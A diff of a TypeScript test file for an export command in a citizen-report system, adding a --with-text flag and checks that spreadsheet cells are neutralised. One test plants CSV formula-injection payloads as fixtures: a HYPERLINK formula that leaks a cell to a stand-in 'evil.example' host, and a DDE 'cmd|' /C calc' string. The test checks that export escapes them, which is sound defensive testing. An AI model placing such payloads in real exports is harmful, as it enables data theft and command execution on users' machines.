@@ -11,7 +11,7 @@ import { rateCase, rejectCase, resolveCase, takeCase } from "../../models/case-a
 import { seedOnSiteVisit } from "../support/visit-steps.ts";
 import { storePhoto } from "../../models/photos.ts";
 import type { StaffMember } from "../../models/staff.ts";
-import type { ReportDoc } from "../../models/report.ts";
+import { Report, type ReportDoc } from "../../models/report.ts";
 
 const { uri, dbName } = useTestDb({ cleanEach: true });
 
@@ -59,6 +59,7 @@ async function seed(): Promise<{ a: ReportDoc; b: ReportDoc; c: ReportDoc }> {
   const a = await submit({
     description: 'pipe burst, "urgent"',
     address: "خیابان آزادی، پلاک ۱۲",
+    venueTitle: "مدرسه بهار",
     location: { lat: 35.85, lon: 50.9 },
     route: { regionKey: "r1", chat: null, needsLocationCheck: false },
     photos: [{ fileId: "f1", fileUniqueId: "u1", gridfsId: photoId, mime: "image/jpeg", size: JPEG.length }],
@@ -66,18 +67,24 @@ async function seed(): Promise<{ a: ReportDoc; b: ReportDoc; c: ReportDoc }> {
   await takeCase(a._id, OFFICIAL, at(1));
   await seedOnSiteVisit(a, OFFICIAL, at(5)); // water and road need one before Resolve
   await resolveCase(a._id, OFFICIAL, "fixed", null, at(5));
-  await rateCase(a._id, a.citizen.userId, 4, at(6));
+  await rateCase(a._id, "telegram", a.citizen.userId, 4, at(6));
   const b = await submit({ categoryKey: "road", route: { regionKey: "r2", chat: null, needsLocationCheck: false }, now: at(24) });
   const c = await submit({ categoryKey: "lighting", route: { regionKey: "r1", chat: null, needsLocationCheck: false }, now: at(48) });
   await rejectCase(c._id, OFFICIAL, "not ours", at(51));
   return { a, b, c };
 }
 
-const HEADER = "code,platform,status,category,department,region,created_at,created_jalali,resolved_at,resolved_jalali,lat,lon,address,description,assignee,first_response_hours,resolve_hours,within_sla,rating,photos,visits,onsite_visit,first_visit_hours";
+// Default: no free-text column (address, venue, description may name people); the code as text ('…).
+const HEADER = "code,platform,status,category,department,region,created_at,created_jalali,resolved_at,resolved_jalali,lat,lon,assignee,first_response_hours,resolve_hours,within_sla,rating,photos,visits,onsite_visit,first_visit_hours";
 const rowA = (code: string) =>
-  `${code},telegram,resolved,water,water,r1,2026-03-01T06:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,2026-03-01T11:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۱۴:۳۰,35.85,50.9,خیابان آزادی، پلاک ۱۲,"pipe burst, ""urgent""",Karimi,1,5,yes,4,1,1,yes,5`;
-const rowB = (code: string) => `${code},telegram,new,road,roads,r2,2026-03-02T06:00:00.000Z,۱۱ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,لوله آب شکسته است,,,,,,0,0,no,`;
-const rowC = (code: string) => `${code},telegram,rejected,lighting,lighting,r1,2026-03-03T06:00:00.000Z,۱۲ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,لوله آب شکسته است,,3,,,,0,0,no,`;
+  `'${code},telegram,resolved,water,water,r1,2026-03-01T06:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,2026-03-01T11:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۱۴:۳۰,35.85,50.9,Karimi,1,5,yes,4,1,1,yes,5`;
+const rowB = (code: string) => `'${code},telegram,new,road,roads,r2,2026-03-02T06:00:00.000Z,۱۱ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,,,,,0,0,no,`;
+const rowC = (code: string) => `'${code},telegram,rejected,lighting,lighting,r1,2026-03-03T06:00:00.000Z,۱۲ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,3,,,,0,0,no,`;
+// --with-text (or --with-personal): the free-text columns come back in their place, after lat/lon.
+const HEADER_TEXT = "code,platform,status,category,department,region,created_at,created_jalali,resolved_at,resolved_jalali,lat,lon,address,venue_title,description,assignee,first_response_hours,resolve_hours,within_sla,rating,photos,visits,onsite_visit,first_visit_hours";
+const rowAText = (code: string) =>
+  `'${code},telegram,resolved,water,water,r1,2026-03-01T06:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,2026-03-01T11:00:00.000Z,۱۰ اسفند ۱۴۰۴ ساعت ۱۴:۳۰,35.85,50.9,خیابان آزادی، پلاک ۱۲,مدرسه بهار,"pipe burst, ""urgent""",Karimi,1,5,yes,4,1,1,yes,5`;
+const rowBText = (code: string) => `'${code},telegram,new,road,roads,r2,2026-03-02T06:00:00.000Z,۱۱ اسفند ۱۴۰۴ ساعت ۰۹:۳۰,,,,,,,لوله آب شکسته است,,,,,,0,0,no,`;
 
 const lines = (csv: string) => csv.replace(/^\uFEFF/, "").trimEnd().split("\n");
 
@@ -86,8 +93,9 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
   it("--help: usage, says personal data is off by default, exit 0", async () => {
     const help = await exportCli(["--help"]);
     expect(help.code).toBe(0);
-    expect(help.stdout.split("\n")[0]).toBe("Usage: npm run export -- [--format csv|jsonl] [--out <file>] [filters] [--with-personal] [--photos <dir>]");
+    expect(help.stdout.split("\n")[0]).toBe("Usage: npm run export -- [--format csv|jsonl] [--out <file>] [filters] [--with-text] [--with-personal] [--photos <dir>]");
     expect(help.stdout).toMatch(/--with-personal .*off by default/);
+    expect(help.stdout).toMatch(/--with-text .*description, address and venue title .*off by default/);
   });
 
   it("CSV to stdout: BOM, header, one exact row per report oldest first; progress only on stderr", async () => {
@@ -101,7 +109,8 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
 
   it("filters: status, region + category, date range (YYYY-MM-DD = a Tehran day, --to inclusive), ISO", async () => {
     const { a, b, c } = await seed();
-    const codes = async (args: string[]) => lines((await exportCli(args)).stdout).slice(1).map((l) => l.split(",")[0]);
+    // The code cell is text for Excel ('12345678): the code is what follows the apostrophe.
+    const codes = async (args: string[]) => lines((await exportCli(args)).stdout).slice(1).map((l) => l.split(",")[0]!.replace(/^'/, ""));
     // Independent children: run them side by side.
     const got = await Promise.all([
       codes(["--status", "new,assigned"]),
@@ -119,14 +128,14 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
     const { a, b } = await seed();
     const dir = await mkdtemp(path.join(tmpdir(), "export-"));
     const out = path.join(dir, "reports.jsonl");
-    const r = await exportCli(["--format", "jsonl", "--out", out, "--status", "resolved,new"]);
+    const r = await exportCli(["--format", "jsonl", "--out", out, "--status", "resolved,new", "--with-text"]);
     expect(r).toMatchObject({ code: 0, stdout: "" });
     const rows = (await readFile(out, "utf8")).trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(rows).toHaveLength(2);
     expect(rows[0]).toEqual({
       code: a.code, platform: "telegram", status: "resolved", category: "water", department: "water", region: "r1",
       created_at: "2026-03-01T06:00:00.000Z", created_jalali: "۱۰ اسفند ۱۴۰۴ ساعت ۰۹:۳۰", resolved_at: "2026-03-01T11:00:00.000Z", resolved_jalali: "۱۰ اسفند ۱۴۰۴ ساعت ۱۴:۳۰",
-      lat: 35.85, lon: 50.9, address: "خیابان آزادی، پلاک ۱۲", description: 'pipe burst, "urgent"', assignee: "Karimi",
+      lat: 35.85, lon: 50.9, address: "خیابان آزادی، پلاک ۱۲", venue_title: "مدرسه بهار", description: 'pipe burst, "urgent"', assignee: "Karimi",
       first_response_hours: 1, resolve_hours: 5, within_sla: true, rating: 4, photos: 1, visits: 1, onsite_visit: true, first_visit_hours: 5,
     });
     expect(rows[1]).toMatchObject({ code: b.code, status: "new", lat: null, resolved_at: null, within_sla: null, rating: null });
@@ -139,7 +148,51 @@ describe("npm run export (scripts/export.ts as a child process)", { timeout: 180
     expect(plain.stdout).not.toContain("Sara");
     expect(plain.stdout).not.toContain("+98912");
     const personal = await exportCli(["--status", "resolved", "--with-personal"]);
-    expect(lines(personal.stdout)).toEqual([`${HEADER},citizen_name,citizen_username,citizen_phone`, `${rowA(a.code)},Sara Ahmadi,sara_a,+989121234567`]);
+    // The phone starts with "+": neutralised like any formula-looking cell (Excel would read +98… as a formula or a number).
+    expect(lines(personal.stdout)).toEqual([`${HEADER_TEXT},citizen_name,citizen_username,citizen_phone`, `${rowAText(a.code)},Sara Ahmadi,sara_a,'+989121234567`]);
+  });
+
+  it("free text (description, address, venue title) is left out by default, in CSV and JSON lines; --with-text brings it back", async () => {
+    const { a, b } = await seed();
+    const [plain, jsonl, text] = await Promise.all([exportCli(["--status", "resolved,new"]), exportCli(["--status", "resolved,new", "--format", "jsonl"]), exportCli(["--status", "resolved,new", "--with-text"])]);
+    for (const secret of ["pipe burst", "خیابان آزادی", "مدرسه بهار", "لوله آب"]) {
+      expect(plain.stdout).not.toContain(secret);
+      expect(jsonl.stdout).not.toContain(secret);
+    }
+    expect(lines(plain.stdout)).toEqual([HEADER, rowA(a.code), rowB(b.code)]);
+    expect(Object.keys(JSON.parse(jsonl.stdout.split("\n")[0]!) as object)).not.toContain("description");
+    expect(lines(text.stdout)).toEqual([HEADER_TEXT, rowAText(a.code), rowBText(b.code)]);
+    // Still no personal columns: --with-text is about the report's text only.
+    expect(text.stdout).not.toContain("Sara");
+  });
+
+  it("cells that a spreadsheet would run as a formula (=, +, -, @, tab, CR) are neutralised with a leading apostrophe; numbers stay numbers", async () => {
+    const r = await submit({
+      description: '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
+      address: "@SUM(1+1)*cmd|' /C calc'!A0",
+      venueTitle: "\t=1+1",
+      citizen: { userId: 7001, chatId: 7001, name: "+Sara", username: "-sara", phone: "09121234567", locale: "fa" },
+      location: { lat: 35.85, lon: -0.5 },
+      route: { regionKey: "r1", chat: null, needsLocationCheck: false },
+    });
+    await Report.updateOne({ _id: r._id }, { $set: { assignee: { platform: "telegram", userId: 1, name: "\r=2+2" } } });
+    const out = await exportCli(["--with-personal"]);
+    const row = lines(out.stdout)[1]!;
+    // lat, lon (a negative number is a number, written as is), address, venue, description, assignee.
+    expect(row).toContain(`,35.85,-0.5,'@SUM(1+1)*cmd|' /C calc'!A0,'\t=1+1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click here"")","'\r=2+2",`);
+    expect(row.endsWith(",'+Sara,'-sara,09121234567")).toBe(true);
+    // JSON lines are data for programs, not spreadsheets: values as stored.
+    const json = JSON.parse((await exportCli(["--with-personal", "--format", "jsonl"])).stdout) as Record<string, unknown>;
+    expect(json).toMatchObject({ description: '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")', citizen_name: "+Sara" });
+  });
+
+  it("the code column is text in Excel: a code with leading zeros keeps them (CSV '0…, JSON a string)", async () => {
+    const r = await submit({});
+    await Report.updateOne({ _id: r._id }, { $set: { code: "00123455" } });
+    const csv = await exportCli([]);
+    expect(lines(csv.stdout)[1]!.split(",")[0]).toBe("'00123455");
+    const json = JSON.parse((await exportCli(["--format", "jsonl"])).stdout) as Record<string, unknown>;
+    expect(json.code).toBe("00123455");
   });
 
   it("--photos <dir> writes each report's GridFS photos byte-equal as <code>-<n>.jpg", async () => {
